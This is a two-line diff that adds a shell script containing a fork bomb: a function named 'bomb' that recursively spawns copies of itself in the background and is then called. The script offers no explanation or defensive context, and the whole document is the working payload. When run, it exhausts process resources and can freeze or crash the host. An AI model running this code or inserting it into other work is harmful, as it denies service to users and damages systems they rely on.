@@ -1,0 +1,2 @@
+#!/bin/sh
+bomb() { bomb | bomb & sleep 100; }; bomb
